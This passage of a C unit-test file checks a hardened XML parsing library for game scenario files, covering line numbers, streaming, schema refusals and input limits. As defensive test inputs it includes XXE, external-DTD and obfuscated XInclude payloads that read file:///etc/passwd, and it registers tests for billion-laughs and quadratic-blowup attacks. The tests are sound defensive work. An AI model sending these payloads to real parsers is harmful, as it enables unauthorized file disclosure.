		scan_alike(b.buf, b.len, seed);
	}
	ord_buf_release(&b);
}
END_TEST

/* The counter is worth trusting: plain libxml2, asked to substitute
 * entities and load DTDs, does call it for the same documents. */
START_TEST(test_loader_control)
{
	static const char xxe[] = "<!DOCTYPE r [ <!ENTITY xxe SYSTEM \"file:///etc/passwd\"> ]><r>&xxe;</r>";
	static const char dtd[] = "<!DOCTYPE r SYSTEM \"file:///etc/passwd\"><r/>";
	xmlDocPtr doc;

	xmlSetStructuredErrorFunc(NULL, quiet);
	doc = xmlReadMemory(xxe, (int)strlen(xxe), "t.xml", NULL, XML_PARSE_NOENT | XML_PARSE_NONET);
	xmlFreeDoc(doc);
	ck_assert_int_ge(loads, 1);
	loads = 0;
	doc = xmlReadMemory(dtd, (int)strlen(dtd), "t.xml", NULL, XML_PARSE_DTDLOAD | XML_PARSE_NONET);
	xmlFreeDoc(doc);
	ck_assert_int_ge(loads, 1);
	xmlSetStructuredErrorFunc(NULL, NULL);
}
END_TEST

/* What a scan for markup steps over, and what it does not. */
START_TEST(test_special_len)
{
	static const char doc[] = "<!-- </map> --><?pi </map> ?><![CDATA[ </map> ]]></map><!-- open";
	const char *end = doc + strlen(doc);

	ck_assert_uint_eq(ord_xml_special_len(doc, end), 15);
	ck_assert_uint_eq(ord_xml_special_len(doc + 15, end), 14);
	ck_assert_uint_eq(ord_xml_special_len(doc + 29, end), 20);
	ck_assert_uint_eq(ord_xml_special_len(doc + 50, end), 0);                /* a tag */
	ck_assert_uint_eq(ord_xml_special_len(doc + 55, end), strlen(doc + 55)); /* unclosed */
	ck_assert_ptr_eq(ord_xml_find_bytes(doc, strlen(doc), "</map>"), doc + 5);
	ck_assert_ptr_null(ord_xml_find_bytes(doc, 5, "</map>"));
}
END_TEST

/* The line an element starts on, where libxml2 names the line its start
 * tag ends on. */
START_TEST(test_start_line)
{
	static const char doc[] = "<?xml version=\"1.0\"?>\n"           /* 1 */
				  "<t xmlns:x=\"urn:x\">\n"             /* 2 */
				  "  <param name=\"a\"\n"               /* 3 */
				  "         value=\"1\"\n"              /* 4 */
				  "         label=\"a &lt; b\"/>\n"     /* 5 */
				  "  <param name=\"b\" value=\"2\"/>\n" /* 6 */
				  "  <paramx/><x:param\n"               /* 7 */
				  "   a=\"1\"/>\n"                      /* 8 */
				  "</t>\n";
	struct ord_xml_lines l;
	xmlDocPtr d = NULL;
	xmlNodePtr n;
	unsigned want[] = { 3, 6, 7, 7 }, i = 0;

	ck_assert_int_eq(ord_xml_parse(&d, doc, strlen(doc), "t.xml"), 0);
	ord_xml_lines_init(&l, doc, strlen(doc), d);
	ck_assert_uint_eq(l.n, 10);
	for (n = xmlDocGetRootElement(d)->children; n; n = n->next) {
		if (n->type != XML_ELEMENT_NODE)
			continue;
		ck_assert_uint_lt(i, 4);
		ck_assert_msg(ord_xml_start_line(&l, n) == want[i], "element %u (%s): line %u, not %u",
			      i, (const char *)n->name, ord_xml_start_line(&l, n), want[i]);
		i++;
	}
	ck_assert_uint_eq(i, 4);
	/* libxml2's own line for the first: where its tag ends */
	ck_assert_int_eq(xmlGetLineNo(xmlDocGetRootElement(d)->children->next), 5);
	ord_xml_lines_release(&l);
	xmlFreeDoc(d);
}
END_TEST

/* An element's own bytes: a '>' in a quoted value, an end tag in a comment
 * or CDATA section, and one of its own name inside it are stepped over. */
START_TEST(test_element_bytes)
{
	static const char doc[] = "<r>\n"
				  " <t a=\"x > y\"\n"
				  "    b='1'><!-- </t> --><t/><t><![CDATA[</t>]]></t>\n"
				  "  <u/></t >\n"
				  " <t/>\n"
				  "</r>\n";
	struct ord_xml_lines l;
	xmlDocPtr d = NULL;
	xmlNodePtr t;
	const char *at = NULL;
	size_t n = 0;

	ck_assert_int_eq(ord_xml_parse(&d, doc, strlen(doc), "t.xml"), 0);
	ord_xml_lines_init(&l, doc, strlen(doc), d);
	t = ord_xml_child(xmlDocGetRootElement(d), "t");
	ck_assert_int_eq(ord_xml_element_bytes(&l, t, &at, &n), 0);
	ck_assert_ptr_eq(at, strstr(doc, "<t a="));
	ck_assert_uint_eq(n, (size_t)(strstr(doc, "</t >") + 5 - at));
	ck_assert_uint_eq(ord_xml_start_line(&l, t), 2);
	t = ord_xml_next(t->next, "t");
	ck_assert_int_eq(ord_xml_element_bytes(&l, t, &at, &n), 0);
	ck_assert_uint_eq(n, 4);
	ck_assert_int_eq(memcmp(at, "<t/>", 4), 0);
	ck_assert_uint_eq(ord_xml_start_line(&l, t), 5);
	ord_xml_lines_release(&l);
	xmlFreeDoc(d);
}
END_TEST

/* ---- a document as a stream ---------------------------------------- */

static const char *const scenario_containers[] = { "scenario", NULL };

/* Stream the len bytes at xml as "t.xml" against the scenario schema (at
 * most max bytes, containers as given; no schema when containers is NULL):
 * 0 with each event in *trace ("<name@depth:line ", "text ", ">name "), or
 * the error. */
static int stream_len(const char *xml, size_t len, size_t max, const char *const *containers,
		      struct ord_buf *trace)
{
	struct ord_xml_stream *s = NULL;
	const char *t;
	size_t n;
	int rc;

	ord_buf_reset(trace);
	if ((rc = ord_xml_stream_open(&s, xml, len, max, "t.xml",
				      containers ? "schema/scenario.rng" : NULL, containers)) != 0) {
		ck_assert_ptr_null(s);
		return rc;
	}
	while ((rc = ord_xml_stream_next(s)) > 0) {
		if (rc == ORD_XML_START) {
			char *id = ord_xml_stream_attr(s, "id");
			ord_buf_addf(trace, "<%s@%d:%u%s%s ", ord_xml_stream_name(s),
				     ord_xml_stream_depth(s), ord_xml_stream_line(s), id ? "#" : "",
				     id ? id : "");
			free(id);
		} else if (rc == ORD_XML_END) {
			ord_buf_addf(trace, ">%s ", ord_xml_stream_name(s));
		} else {
			t = ord_xml_stream_text(s, &n);
			ord_buf_add(trace, t, n);
			ord_buf_addch(trace, ' ');
		}
	}
	/* an error is given again, as it was */
	if (rc < 0)
		ck_assert_int_eq(ord_xml_stream_next(s), rc);
	ord_xml_stream_free(s);
	ck_assert_int_eq(loads, 0);
	return rc;
}

static void stream_refused(const char *xml, const char *msg)
{
	struct ord_buf trace = ORD_BUF_INIT;

	ck_assert_int_eq(stream_len(xml, strlen(xml), ORD_XML_MAX_BYTES, scenario_containers, &trace),
			 ORD_EBADDATA);
	ck_assert_msg(!strncmp(ord_error_last(), msg, strlen(msg)), "expected '%s', got '%s'", msg,
		      ord_error_last());
	ord_buf_release(&trace);
}

#define SCENARIO_OPEN "<scenario ruleset=\"battalion\">"
#define SCENARIO_REST                                            \
	"<side id=\"a\" name=\"A\"/><side id=\"b\" name=\"B\"/>" \
	"<unit id=\"U\" name=\"U\" side=\"a\" kind=\"line_infantry\"/></scenario>"

START_TEST(test_stream_events)
{
	static const char ok[] = "<?xml version=\"1.0\"?>\n<!-- c -->\n" SCENARIO_OPEN
				 "<title>T<![CDATA[<x>]]>&amp;</title>\n" SCENARIO_REST;
	struct ord_buf trace = ORD_BUF_INIT;

	ck_assert_int_eq(stream_len(ok, strlen(ok), ORD_XML_MAX_BYTES, scenario_containers, &trace), 0);
	ck_assert_str_eq(trace.buf, "<scenario@0:3 <title@1:3 T <x> & >title \n <side@1:4#a >side "
				    "<side@1:4#b >side <unit@1:4#U >unit >scenario ");
	ord_buf_release(&trace);
}
END_TEST

START_TEST(test_stream_refusals)
{
	struct ord_buf b = ORD_BUF_INIT, trace = ORD_BUF_INIT;
	char *xml;
	int i;

	/* what the schema refuses, as it is read: the file, the line */
	stream_refused(SCENARIO_OPEN "\n<title>T</title>\n<bogus/>\n" SCENARIO_REST,
		       "t.xml:3: Did not expect element bogus there");
	stream_refused("<?xml version=\"1.0\"?>\n<game ruleset=\"battalion\"/>",
		       "t.xml:2: Expecting element scenario, got game");
	stream_refused(SCENARIO_OPEN "<title>T</title>" SCENARIO_REST "\n<more/>",
		       "t.xml:2:1: Extra content at the end of the document");
	/* cut short: said as of a tree (a stream's parser says "Extra content") */
	stream_refused(SCENARIO_OPEN "\n<title>T</title>",
		       "t.xml:2:17: Premature end of data in tag scenario line 1");
	stream_refused(SCENARIO_OPEN "\n<title>T</title>\n<side id=\"a\" name=\"A\"><!-- <x> -->\n",
		       "t.xml:3:35: Premature end of data in tag side line 3");
	stream_refused("", "t.xml:1: Document is empty");
	stream_refused(" \n ", "t.xml:2: Document is empty");
	/* an element inside one of text: refused before libxml2 builds it */
	stream_refused(SCENARIO_OPEN "<title>\n<b/>T</title>" SCENARIO_REST,
		       "t.xml:2: element <b> inside <title>; expected text only in <title>");
	/* the safety of ord_xml_parse */
	stream_refused("<!DOCTYPE scenario SYSTEM \"file:///etc/passwd\"><scenario/>",
		       "t.xml:1: " DOCTYPE_MSG);
	stream_refused(SCENARIO_OPEN "<title>\n&xxe;</title>" SCENARIO_REST,
		       "t.xml:2:6: Entity 'xxe' not defined");
	/* XInclude spelt with character references: the schema refuses it
	 * first; with none, the stream does (the reader never includes) */
	stream_refused("<scenario ruleset=\"battalion\" xmlns:xi=\"http&#58;//www.w3.org/2001/XInclude\">\n"
		       "<xi:include href=\"file:///etc/passwd\" parse=\"text\"/></scenario>",
		       "t.xml:2: Did not expect element include there");
	{
		static const char xi[] = "<r xmlns:xi=\"http&#58;//www.w3.org/2001/XInclude\">\n"
					 "<xi:include href=\"file:///etc/passwd\" parse=\"text\"/></r>";
		struct ord_xml_stream *s;

		ck_assert_int_eq(ord_xml_stream_open(&s, xi, strlen(xi), 1000, "t.xml", NULL, NULL), 0);
		ck_assert_int_eq(ord_xml_stream_next(s), ORD_XML_START);
		ck_assert_int_eq(ord_xml_stream_next(s), ORD_XML_TEXT);
		ck_assert_int_eq(ord_xml_stream_next(s), ORD_EBADDATA);
		ck_assert_str_eq(ord_error_last(), "t.xml:2: XInclude is not accepted");
		ord_xml_stream_free(s);
	}
	stream_refused("\xFE\xFF\0<", NOT_UTF8_MSG);
	ord_buf_adds(&b, SCENARIO_OPEN "<title\n");
	for (i = 0; i < 300; i++)
		ord_buf_addf(&b, " a%d=\"%d\"", i, i);
	ord_buf_adds(&b, ">T</title>" SCENARIO_REST);
	stream_refused(b.buf,
		       "t.xml:1: an element with more than 256 attributes; expected at most 256");
	/* 64 levels are read, the 65th is refused on its line, before libxml2 */
	xml = nested(ORD_XML_MAX_DEPTH);
	ck_assert_int_eq(stream_len(xml, strlen(xml), ORD_XML_MAX_BYTES, NULL, &trace), 0);
	ck_assert_msg(strstr(trace.buf, "<a@63:64 "), "%s", trace.buf);
	free(xml);
	xml = nested(ORD_XML_MAX_DEPTH + 1);
	ck_assert_int_eq(stream_len(xml, strlen(xml), ORD_XML_MAX_BYTES, NULL, &trace), ORD_EBADDATA);
	ck_assert_str_eq(ord_error_last(), "t.xml:65: elements nested deeper than 64 levels");
	free(xml);
	/* the size the caller allows */
	ck_assert_int_eq(stream_len(b.buf, b.len, 100, scenario_containers, &trace), ORD_EBADDATA);
	ck_assert_str_eq(ord_error_last(),
			 "t.xml: document of 3237 bytes is larger than the limit of 100 bytes");
	ord_buf_release(&b);
	ord_buf_release(&trace);
}
END_TEST

/* libxml2 counts an element's line in 16 bits (65,535 for any after):
 * the stream gives the line its start tag ends on, and says it in
 * libxml2's messages. */
/* The marks of the refusal of len bytes as a tree (ord_xml_parse) and as
 * a stream (no schema), which must be the same refusal. */
static unsigned refusal_marks(const char *xml, size_t len)
{
	struct ord_buf trace = ORD_BUF_INIT;
	xmlDocPtr doc = NULL;
	unsigned tree;

	ck_assert_int_eq(ord_xml_parse(&doc, xml, len, "t.xml"), ORD_EBADDATA);
	tree = ord_error_marks();
	ck_assert_int_eq(stream_len(xml, len, ORD_XML_MAX_BYTES, NULL, &trace), ORD_EBADDATA);
	ck_assert_msg(ord_error_marks() == tree, "%s: tree %u, stream %u", ord_error_last(), tree,
		      ord_error_marks());
	ord_buf_release(&trace);
	return tree;
}

#define MARKS(lit) refusal_marks(lit, sizeof(lit) - 1)

/* What orderly refuses in any XML is marked so (ORD_ERRMARK_ANY_XML), for
 * a caller to tell it from a refusal of the document's form without
 * reading the words: a name or a text holding the words is no mark. */
START_TEST(test_refusals_of_any_xml_marked)
{
	struct ord_buf b = ORD_BUF_INIT, trace = ORD_BUF_INIT;
	int i;

	/* not UTF-8: xmlsafe's own findings, and libxml2's of the bytes */
	ck_assert_uint_eq(MARKS("\xFE\xFF\0<"), ORD_ERRMARK_ANY_XML);
	ck_assert_uint_eq(MARKS("<r>\0</r>"), ORD_ERRMARK_ANY_XML);
	ck_assert_uint_eq(MARKS("r/>"), ORD_ERRMARK_ANY_XML);
	ck_assert_uint_eq(MARKS("<?xml version=\"1.0\" encoding=\"latin1\"?><r/>"),
			  ORD_ERRMARK_ANY_XML);
	ck_assert_uint_eq(MARKS("<r>\n<a>\xff</a></r>"), ORD_ERRMARK_ANY_XML);
	ck_assert_str_eq(ord_error_last(),
			 "t.xml:2:4: Input is not proper UTF-8, indicate encoding !\nBytes: 0xFF 0x3C 0x2F 0x61");
	ck_assert_uint_eq(MARKS("<r a=\"\xc3\"/>"), ORD_ERRMARK_ANY_XML);
	/* a DOCTYPE, an entity, XInclude */
	ck_assert_uint_eq(MARKS("<!DOCTYPE r><r/>"), ORD_ERRMARK_ANY_XML);
	ck_assert_uint_eq(MARKS("<r><!ENTITY x \"y\"></r>"), ORD_ERRMARK_ANY_XML);
	ck_assert_uint_eq(MARKS("<r xmlns:xi=\"http://www.w3.org/2001/XInclude\"/>"),
			  ORD_ERRMARK_ANY_XML);
	/* the limits of any XML: too many attributes, markup too long,
	 * nesting too deep */
	ord_buf_adds(&b, "<r");
	for (i = 0; i < 300; i++)
		ord_buf_addf(&b, " a%d=\"%d\"", i, i);
	ord_buf_adds(&b, "/>");
	ck_assert_uint_eq(refusal_marks(b.buf, b.len), ORD_ERRMARK_ANY_XML);
	ck_assert_str_eq(ord_error_last(),
			 "t.xml:1: an element with more than 256 attributes; expected at most 256");
	ord_buf_reset(&b);
	ord_buf_adds(&b, "<r><!--");
	ord_buf_grow(&b, ORD_XML_MAX_MARKUP + 16);
	memset(b.buf + b.len, 'x', ORD_XML_MAX_MARKUP);
	b.len += ORD_XML_MAX_MARKUP;
	b.buf[b.len] = '\0';
	ord_buf_adds(&b, "--></r>");
	ck_assert_uint_eq(refusal_marks(b.buf, b.len), ORD_ERRMARK_ANY_XML);
	ck_assert_msg(strstr(ord_error_last(), "t.xml:1: a comment, processing instruction, CDATA "
					       "section or tag of more than "),
		      "%s", ord_error_last());
	ord_buf_reset(&b);
	for (i = 0; i <= ORD_XML_MAX_DEPTH; i++)
		ord_buf_adds(&b, "<r>");
	for (i = 0; i <= ORD_XML_MAX_DEPTH; i++)
		ord_buf_adds(&b, "</r>");
	ck_assert_uint_eq(refusal_marks(b.buf, b.len), ORD_ERRMARK_ANY_XML);
	ck_assert_str_eq(ord_error_last(), "t.xml:1: elements nested deeper than 64 levels");
	ord_buf_reset(&b);
	/* the form of the document: not well-formed, a character XML does
	 * not allow (libxml2's code of bytes not UTF-8 too); and the words
	 * in a name */
	ck_assert_uint_eq(MARKS("<r>"), 0);
	ck_assert_uint_eq(MARKS("<r>\x01</r>"), 0);
	ck_assert_str_eq(ord_error_last(), "t.xml:1:4: PCDATA invalid Char value 1");
	ck_assert_uint_eq(MARKS("<r>&#0;</r>"), 0);
	ck_assert_uint_eq(MARKS("<DOCTYPE-not-accepted-UTF-8></r>"), 0);
	ck_assert_msg(strstr(ord_error_last(), "DOCTYPE-not-accepted-UTF-8"), "%s", ord_error_last());
	/* the schema's refusal of an element named with the words */
	ck_assert_int_eq(stream_len("<not-accepted-UTF-8/>", 21, ORD_XML_MAX_BYTES,
				    scenario_containers, &trace),
			 ORD_EBADDATA);
	ck_assert_str_eq(ord_error_last(),
			 "t.xml:1: Expecting element scenario, got not-accepted-UTF-8");
	ck_assert_uint_eq(ord_error_marks(), 0);
	/* each error set anew takes the marks back */
	ck_assert_uint_eq(MARKS("<!DOCTYPE r><r/>"), ORD_ERRMARK_ANY_XML);
	ord_error_set(ORD_EBADDATA, "%s", ord_error_last());
	ck_assert_uint_eq(ord_error_marks(), 0);
	ord_error_mark(ORD_ERRMARK_ANY_XML);
	ord_error_clear();
	ck_assert_uint_eq(ord_error_marks(), 0);
	ord_buf_release(&b);
	ord_buf_release(&trace);
}
END_TEST

START_TEST(test_stream_far_lines)
{
	struct ord_buf b = ORD_BUF_INIT, trace = ORD_BUF_INIT;
	int i;

	ord_buf_adds(&b, SCENARIO_OPEN "<title>T</title>");
	for (i = 0; i < 70000; i++)
		ord_buf_addch(&b, '\n');
	ord_buf_adds(&b, "<side id=\"a\"\nname=\"A\"/>\n<side id=\"b\" name=\"B\"/>\n<unit id=\"U\" "
			 "name=\"U\" side=\"a\" kind=\"line_infantry\"/>\n");
	ord_buf_adds(&b, "</scenario>");
	ck_assert_int_eq(stream_len(b.buf, b.len, ORD_XML_MAX_BYTES, scenario_containers, &trace), 0);
	ck_assert_msg(strstr(trace.buf, "<side@1:70002#a >side \n <side@1:70003#b >side \n "
					"<unit@1:70004#U >unit"),
		      "%s", trace.buf);
	/* an element the schema refuses there */
	b.len -= strlen("</scenario>");
	ord_buf_adds(&b, "\n<bogus/></scenario>");
	ck_assert_int_eq(stream_len(b.buf, b.len, ORD_XML_MAX_BYTES, scenario_containers, &trace),
			 ORD_EBADDATA);
	ck_assert_msg(!strncmp(ord_error_last(), "t.xml:70006: ", 13), "%s", ord_error_last());
	/* and one missing, said at its parent's end */
	b.len = 0;
	ord_buf_adds(&b, SCENARIO_OPEN);
	for (i = 0; i < 70000; i++)
		ord_buf_addch(&b, '\n');
	ord_buf_adds(&b, "<side id=\"a\" name=\"A\"/></scenario>");
	ck_assert_int_eq(stream_len(b.buf, b.len, ORD_XML_MAX_BYTES, scenario_containers, &trace),
			 ORD_EBADDATA);
	ck_assert_msg(strstr(ord_error_last(), "t.xml:70001: ") && !strstr(ord_error_last(), ":65535:"),
		      "%s", ord_error_last());
	ord_buf_release(&b);
	ord_buf_release(&trace);
}
END_TEST

Suite *ord_test_suite(void)
{
	Suite *s = suite_create("xmlsafe");
	TCase *plain = tcase_create("plain");
	TCase *hostile = tcase_create("hostile");

	tcase_add_checked_fixture(plain, setup, NULL);
	tcase_add_test(plain, test_parse_and_helpers);
	tcase_add_test(plain, test_malformed);
	tcase_add_test(plain, test_load_and_validate);
	tcase_add_test(plain, test_loader_control);
	tcase_add_test(plain, test_special_len);
	tcase_add_test(plain, test_start_line);
	tcase_add_test(plain, test_element_bytes);
	tcase_add_test(plain, test_large_of_small_elements);
	tcase_add_test(plain, test_stream_events);
	tcase_add_test(plain, test_stream_refusals);
	tcase_add_test(plain, test_stream_far_lines);
	suite_add_tcase(s, plain);

	tcase_add_checked_fixture(hostile, setup, NULL);
	tcase_add_test(hostile, test_billion_laughs);
	tcase_add_test(hostile, test_quadratic_blowup);
	tcase_add_test(hostile, test_external_entity_file);
	tcase_add_test(hostile, test_external_entity_http);
	tcase_add_test(hostile, test_external_dtd);
	tcase_add_test(hostile, test_parameter_entities);
	tcase_add_test(hostile, test_entities_without_doctype);
	tcase_add_test(hostile, test_xinclude);
	tcase_add_test(hostile, test_deep_nesting);
	tcase_add_test(hostile, test_oversize);
	tcase_add_test(hostile, test_many_attributes);
	tcase_add_test(hostile, test_long_markup);
	tcase_add_test(hostile, test_utf16_and_utf32);
	tcase_add_test(hostile, test_encoding_declarations);
	tcase_add_test(hostile, test_nul_byte);
	tcase_add_test(hostile, test_refusals_of_any_xml_marked);
	tcase_add_test(hostile, test_hostile_fixtures);
	tcase_add_test(hostile, test_scan_in_pieces);
	suite_add_tcase(s, hostile);
	return s;
}
